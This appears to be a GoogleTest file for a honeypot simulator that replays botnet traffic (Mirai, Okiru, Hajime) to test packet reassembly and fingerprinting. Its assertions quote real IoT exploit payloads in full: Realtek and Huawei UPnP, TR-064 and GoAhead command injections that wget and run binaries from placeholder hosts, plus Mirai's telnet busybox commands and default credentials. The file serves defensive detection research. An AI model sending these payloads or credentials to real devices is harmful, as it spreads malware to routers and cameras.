#include "simulate/conversation.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <array>
#include <cmath>
#include <map>
#include <set>
#include <sstream>

#include "decode/decode.hpp"
#include "fingerprint/catalogue.hpp"
#include "fingerprint/classify.hpp"
#include "visit_fixture.hpp"

namespace nightjar::simulate::visit {
namespace {

using namespace tcp_flag;
using ::testing::Contains;
using ::testing::EndsWith;
using ::testing::HasSubstr;
using ::testing::StartsWith;

TEST_F(ConversationTest, TheListSaysWhatEachIsAndWhereItIsKnownFrom) {
  std::set<std::string_view> names;
  for (const Conversation& conversation : conversations()) {
    EXPECT_TRUE(names.insert(conversation.name).second) << conversation.name;
    EXPECT_FALSE(conversation.sentence.empty() || conversation.source.empty()) << conversation.name;
    EXPECT_EQ(find_conversation(conversation.name), &conversation);
  }
  EXPECT_EQ(find_conversation("no such"), nullptr);
}

TEST_F(ConversationTest, ReassembledBytesAreWhatWasTold) {
  std::size_t disturbed = 0, connections = 0, cut = 0;
  for (const Conversation& conversation : conversations()) {
    for (std::uint64_t seed = 0; seed < 60; ++seed) {
      const bool raw = seed % 2 == 0;
      visit(std::string(conversation.name), seed, raw);
      SCOPED_TRACE(std::string(conversation.name) + " " + std::to_string(seed));
      expect_right_numbers(segments_);
      ASSERT_FALSE(told_.connections.empty());
      for (const auto& connection : told_.connections) {
        EXPECT_EQ(put_together(segments_, connection.from, connection.from_port, conversation.port), connection.visitor_says);
        EXPECT_EQ(put_together(segments_, kPot, conversation.port, connection.from_port), connection.pot_says);
        disturbed += connection.disturbed;
        ++connections;
      }
      for (const Segment& segment : segments_) cut += segment.from != kPot && !segment.payload.empty() && !(segment.flags & kPsh);
      EXPECT_EQ(segments_.front().time_us, kStart / 1'000);
      EXPECT_EQ(segments_.back().time_us, last_ / 1'000);
      EXPECT_LT(last_, kStart + 15 * 60 * kSecond);
      if (::testing::Test::HasFailure()) return;
    }
  }
  // One flight in ten is disturbed; connections have one to twenty.
  EXPECT_GT(disturbed, connections / 10);
  EXPECT_LT(disturbed, connections * 9 / 10);
  EXPECT_GT(cut, connections / 10);
}

TEST_F(ConversationTest, TheSameSeedGivesTheSamePackets) {
  visit("mirai-telnet", 5, true);
  const auto first = segments_;
  visit("mirai-telnet", 5, true);
  ASSERT_EQ(segments_.size(), first.size());
  for (std::size_t i = 0; i < first.size(); ++i) EXPECT_EQ(segments_[i].frame, first[i].frame);
  visit("mirai-telnet", 6, true);
  EXPECT_NE(segments_.at(1).frame, first.at(1).frame);
}

TEST_F(ConversationTest, MiraiComesBackFromAnotherPortWithinHalfAMinute) {
  for (std::uint64_t seed = 0; seed < 50; ++seed) {
    visit("mirai-telnet", seed, true);
    const auto& connection = told_.connections.at(0);
    EXPECT_NE(connection.from_port, 40'000);
    EXPECT_GT(connection.first_ns, kStart);
    EXPECT_LT(connection.first_ns, kStart + 30 * kSecond);
    EXPECT_EQ(segments_.at(0).sequence, kPot) << "the raw SYN stands as it is";
    EXPECT_EQ(segments_.at(1).flags, kSyn | kAck);
    // The kernel knows nothing of the raw SYN.
    for (const Segment& segment : segments_) {
      if (segment.src_port == 40'000 && segment.time_us > kStart / 1'000) {
        EXPECT_EQ(segment.flags, kRst);
      }
    }
    std::set<std::pair<std::uint32_t, std::uint16_t>> ports;
    for (const auto& each : told_.connections) EXPECT_TRUE(ports.emplace(each.from, each.from_port).second);
  }
}

TEST_F(ConversationTest, AnOrdinarySynIsTheFirstPacketOfItsConnection) {
  whole_visit("hajime-goahead", false);
  EXPECT_EQ(told_.connections.at(0).from_port, 40'000);
  EXPECT_EQ(segments_.at(0).sequence, 77'777U);
  EXPECT_EQ(segments_.at(2).sequence, 77'778U);
}

TEST_F(ConversationTest, OnlyTheProbeItselfBearsAFingerprint) {
  for (const Conversation& conversation : conversations()) {
    for (std::uint64_t seed = 0; seed < 20; ++seed) {
      visit(std::string(conversation.name), seed, true);
      for (std::size_t i = 0; i < segments_.size(); ++i) {
        const Segment& segment = segments_[i];
        Packet packet;
        const RawPacket raw{segment.time_us * 1'000,
                            reinterpret_cast<const std::uint8_t*>(segment.frame.data()),
                            static_cast<std::uint32_t>(segment.frame.size()),
                            static_cast<std::uint32_t>(segment.frame.size()),
                            1,
                            0};
        ASSERT_EQ(decode(raw, {}, packet), Undecodable::none);
        const TrafficClass expected = segment.flags == kSyn                              ? TrafficClass::scan
                                      : (segment.flags & kRst) || (segment.flags & kSyn) ? TrafficClass::backscatter
                                                                                         : TrafficClass::other;
        EXPECT_EQ(classify(packet), expected);
        for (const Fingerprint& print : fingerprint_catalogue()) {
          EXPECT_FALSE(i > 0 && print.matches(facts_of(packet), packet.window, packet.dst_port, static_cast<std::uint8_t>(expected)))
              << print.name << " in packet " << i << " of " << conversation.name;
        }
      }
    }
  }
}

TEST_F(ConversationTest, TelnetGoesFromNegotiationToTheFamilysName) {
  for (const auto& [name, token] : {std::pair("mirai-telnet", "MIRAI"), std::pair("okiru-telnet", "OKIRU")}) {
    bool let_in = false, refused = false, loaded = false;
    for (std::uint64_t seed = 0; seed < 40; ++seed) {
      visit(name, seed, true);
      if (told_.broken_off) continue;
      for (std::size_t i = 0; i < told_.connections.size(); ++i) {
        const auto& connection = told_.connections[i];
        const auto& login = told_.logins.at(i);
        // WILL NAWS, 80 columns, 24 rows: only this size is Mirai's.
        EXPECT_THAT(connection.visitor_says, StartsWith(std::string("\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0", 12) + login.user +
                                                        "\r\n" + login.password + "\r\n"));
        EXPECT_THAT(connection.pot_says, StartsWith("\xff\xfd\x1f"));
        if (!login.accepted) {
          refused = true;
          EXPECT_THAT(connection.pot_says, HasSubstr("incorrect"));
          continue;
        }
        EXPECT_THAT(connection.visitor_says, HasSubstr("\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox "));
        if (connection.from == 0x0b000001) {
          let_in = true;
          EXPECT_THAT(connection.visitor_says, EndsWith("/bin/busybox " + std::string(token) + "\r\n"));
          EXPECT_THAT(connection.pot_says, HasSubstr(std::string(token) + ": applet not found"));
        } else {
          loaded = true;
          EXPECT_THAT(connection.visitor_says, HasSubstr("/bin/busybox ECCHI\r\n"));
          EXPECT_THAT(connection.pot_says, HasSubstr("ECCHI: applet not found"));
          EXPECT_THAT(connection.visitor_says, HasSubstr("wget " + told_.urls.at(0) + " "));
        }
      }
      for (const std::string& command : told_.commands) EXPECT_THAT(said(), HasSubstr(command + "\r\n"));
    }
    EXPECT_TRUE(let_in && refused && loaded) << name;
  }
}

TEST_F(ConversationTest, CredentialsComeByTheirWeights) {
  std::map<std::string, int> logins;
  int all = 0;
  for (std::uint64_t seed = 0; seed < 1'500; ++seed) {
    FrameSheet sheet;
    add_visit(probe(23, true), find_conversation("mirai-telnet"), seed, sheet, &told_);
    for (std::size_t i = 0; i < told_.logins.size(); ++i) {
      if (told_.connections[i].from != 0x0b000001) continue;
      ++logins[told_.logins[i].user + "/" + told_.logins[i].password];
      ++all;
    }
  }
  // Weights 10 and 6 of Mirai's source; five standard deviations of their ratio.
  const double most = logins["root/xc3511"], fifth = logins["root/888888"];
  EXPECT_NEAR(most / fifth, 10.0 / 6.0, 5 * (10.0 / 6.0) * std::sqrt(1 / most + 1 / fifth));
  EXPECT_GE(logins.size(), 17U);
  EXPECT_GT(all, 1'500);
}

TEST_F(ConversationTest, RealtekSaysWhatFigure7Shows) {
  whole_visit("realtek-soap", false);
  for (const char* line : {"POST /picsdesc.xml HTTP/1.1\r\n",
                           "Host: 100.127.255.9:52869\r\n",
                           "Connection: keep-alive\r\n",
                           "Accept-Encoding: gzip, deflate\r\n",
                           "Accept: */*\r\n",
                           "User-Agent: python-requests/2.18.4\r\n",
                           "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n",
                           "Content-Length: 637\r\n",
                           "<?xml version=\"1.0\" ?>",
                           "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" ",
                           "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">",
                           "<s:Body>",
                           "<u:AddPortMapping ",
                           "xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\">",
                           "<NewRemoteHost></NewRemoteHost>",
                           "<NewExternalPort>47450</NewExternalPort>",
                           "<NewProtocol>TCP</NewProtocol>",
                           "<NewInternalPort>44382</NewInternalPort>",
                           "<NewInternalClient>`cd /tmp/;/bin/busybox wget http://198.51.100.142/okiru.sh`</NewInternalClient>",
                           "<NewEnabled>1</NewEnabled>",
                           "<NewPortMappingDescription>syncthing</NewPortMappingDescription>",
                           "<NewLeaseDuration>0</NewLeaseDuration>",
                           "</u:AddPortMapping>",
                           "</s:Body>",
                           "</s:Envelope>"}) {
    EXPECT_THAT(said(), HasSubstr(line));
  }
  EXPECT_EQ(body().size(), 637U);
  EXPECT_THAT(told_.urls, ::testing::ElementsAre("http://198.51.100.142/okiru.sh"));
}

TEST_F(ConversationTest, HuaweiSaysWhatFigure9ShowsWithItsMisspellings) {
  whole_visit("huawei-soap", false);
  for (const char* line :
       {"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n", "username=\"dslf-config\"", "nonce=\"88645cefb1f9ede0e336e3569d75ee30\"",
        "response=\"3612f843a42db38f48f59d2a3597e19c\"", "cnonce=\"248d1a2560100669\"", "Content-Length: 430\r\n",
        "<?xml.version=\"1.0\" ?>\n", "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" ",
        "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">\n", "<s:Body>\n",
        "<u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">\n",
        "<NewStatusURL>$(busybox wget -g 203.0.113.7 -l /tmp/rsh -r /okiru.mips; chmod +x /tmp/rsh; /tmp/rsh)</NewStatusURL>\n",
        "<NewDownoadURL>$(echo HUAWEIUPNP)</NewDownloadURL>\n", "</u:Upgrade>\n", "</s:Body>\n", "</s:Envelope>"}) {
    EXPECT_THAT(said(), HasSubstr(line));
  }
  EXPECT_EQ(body().size(), 430U);
  EXPECT_THAT(told_.urls, ::testing::ElementsAre("http://203.0.113.7/okiru.mips"));
}

TEST_F(ConversationTest, OtherExploitsHaveTheirStructure) {
  whole_visit("tr064", false);
  EXPECT_THAT(said(), HasSubstr("POST /UD/act?1 HTTP/1.1\r\nHost: 127.0.0.1:7547\r\n"));
  EXPECT_THAT(said(), HasSubstr("SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n"));
  EXPECT_THAT(said(), HasSubstr("<NewNTPServer1>`cd /tmp;wget http://203.0.113.90/1;chmod 777 1;./1`</NewNTPServer1>"));
  EXPECT_THAT(said(), HasSubstr("Content-Length: " + std::to_string(body().size()) + "\r\n"));

  whole_visit("goahead", true);
  ASSERT_EQ(told_.connections.size(), 3U);
  EXPECT_THAT(told_.connections[0].visitor_says, StartsWith("GET /system.ini?loginuse&loginpas HTTP/1.1\r\n"));
  EXPECT_THAT(told_.connections[0].pot_says, HasSubstr(std::string("admin\0", 6)));
  EXPECT_THAT(told_.connections[1].visitor_says, StartsWith("GET /set_ftp.cgi?next_url=ftp.htm&loginuse=admin&loginpas="));
  EXPECT_THAT(told_.connections[1].visitor_says, HasSubstr("svr=$(wget+http://198.51.100.23/cam.sh+-O+/tmp/cam.sh%3B+sh"));
  EXPECT_THAT(told_.connections[2].visitor_says, StartsWith("GET /ftptest.cgi?"));

  whole_visit("adb", false);
  EXPECT_THAT(said(), StartsWith(std::string("CNXN\0\0\0\x01\0\0\x10\0\x07\0\0\0\x32\x02\0\0\xbc\xb1\xa7\xb1host::\0", 31)));
  EXPECT_THAT(said(), HasSubstr("shell:" + told_.commands.at(0) + std::string(1, '\0')));

  whole_visit("smb", false);
  EXPECT_THAT(said(), HasSubstr(std::string("\xff\x53\x4d\x42\x25\0\0\0\0\x18\x01\x28", 12)));
  EXPECT_THAT(said(), EndsWith(std::string("\x23\0\0\0\x07\0\x5c\x50\x49\x50\x45\x5c\0", 13)));
  EXPECT_THAT(told_.connections[0].pot_says, HasSubstr(std::string("SMB\x25\x05\x02\0\xc0", 8)));

  whole_visit("ssh", false);
  EXPECT_THAT(said(), StartsWith("SSH-2.0-libssh"));
}

TEST_F(ConversationTest, CrawlersAreHarmless) {
  for (std::uint64_t seed = 0; seed < 30; ++seed) {
    visit("crawler", seed, false);
    EXPECT_TRUE(told_.commands.empty() && told_.urls.empty() && told_.logins.empty());
    if (told_.broken_off) continue;
    EXPECT_THAT(said(), ::testing::AllOf(HasSubstr("GET /robots.txt "), HasSubstr("GET / "), HasSubstr("User-Agent: ")));
  }
}

TEST_F(ConversationTest, NobodyElsesAddressIsNamed) {
  for (const Conversation& conversation : conversations()) {
    for (std::uint64_t seed = 0; seed < 20; ++seed) {
      visit(std::string(conversation.name), seed, true);
      for (const auto& connection : told_.connections) {
        std::string text = connection.visitor_says;
        std::replace_if(
            text.begin(), text.end(), [](char letter) { return letter != '.' && !(letter >= '0' && letter <= '9'); }, ' ');
        std::istringstream words(text);
        for (std::string word; words >> word;) {
          if (!parse_address(word)) continue;
          EXPECT_THAT((std::vector<std::string>{"198.51.100", "203.0.113", "100.127.255", "127.0.0"}),
                      Contains(word.substr(0, word.rfind('.'))));
        }
      }
    }
  }
}

TEST_F(ConversationTest, SomeVisitorsBreakOff) {
  int broken_off = 0;
  for (std::uint64_t seed = 0; seed < 2'500; ++seed) {
    FrameSheet sheet;
    add_visit(probe(37'215, false), find_conversation("huawei-soap"), seed, sheet, &told_);
    if (!told_.broken_off) continue;
    ++broken_off;
    EXPECT_EQ(said(), "");
    EXPECT_TRUE(told_.urls.empty());
  }
  EXPECT_NEAR(broken_off, 100, 50);  // one in 25; five standard deviations
}

TEST_F(ConversationTest, ThePotKeepsToTheVisitorsWindowAndSegmentSize) {
  constexpr std::array<std::uint8_t, 4> kSmallSegments = {2, 4, 0, 100};
  for (std::uint64_t seed = 0; seed < 30; ++seed) {
    Knock syn = probe(81, false);
    syn.tcp_options = kSmallSegments;
    syn.window = seed % 2 == 0 ? 150 : 80;
    sheet_ = {};
    add_visit(syn, find_conversation("goahead"), seed, sheet_, &told_);
    read_back();
    expect_right_numbers(segments_);
    std::uint32_t acknowledged = 0;
    for (const Segment& segment : segments_) {
      if (segment.src_port == 40'000 && (segment.flags & kAck)) acknowledged = segment.acknowledgement;
      if (segment.dst_port != 40'000 || segment.payload.empty()) continue;
      EXPECT_LE(segment.payload.size(), 100U);
      EXPECT_LT(segment.sequence + segment.payload.size() - acknowledged, syn.window);
    }
  }
}

TEST_F(ConversationTest, WithoutAConversationThereIsOnlyALook) {
  std::set<std::vector<int>> kinds;
  for (std::uint64_t seed = 0; seed < 200; ++seed) {
    sheet_ = {};
    last_ = add_visit(probe(8'080, seed % 2 == 0), nullptr, seed, sheet_, &told_);
    read_back();
    expect_right_numbers(segments_);
    EXPECT_TRUE(told_.connections.empty());
    std::vector<int> flags;
    for (const Segment& segment : segments_) {
      EXPECT_EQ(segment.payload, "");
      flags.push_back(segment.flags);
    }
    kinds.insert(flags);
    EXPECT_EQ(segments_.back().time_us, last_ / 1'000);
  }
  EXPECT_TRUE(kinds.contains({kSyn, kSyn | kAck}));
  EXPECT_TRUE(kinds.contains({kSyn, kSyn | kAck, kRst}));
  EXPECT_GE(kinds.size(), 4U);
}

}  // namespace
}  // namespace nightjar::simulate::visit
